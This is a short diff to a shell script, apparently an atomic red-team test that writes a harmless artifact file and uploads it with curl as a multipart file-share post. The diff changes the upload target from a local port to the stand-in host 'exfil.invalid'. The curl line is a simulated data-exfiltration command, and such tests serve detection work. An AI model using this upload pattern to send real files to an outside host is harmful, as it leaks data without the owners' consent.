@@ -6,7 +6,7 @@ W="${2:?usage: $0 run|cleanup DIR}"
 cd "$W" || exit 1
 run() {
     echo "atomic artifact" > "$W/artifact"
-    curl -F "file=@$W/artifact" -F 'maxDownloads=1' -F 'autoDelete=true' -m 3 https://127.0.0.1:9/
+    curl -F "file=@$W/artifact" -F 'maxDownloads=1' -F 'autoDelete=true' -m 3 https://exfil.invalid/
 }
 cleanup() {
     :
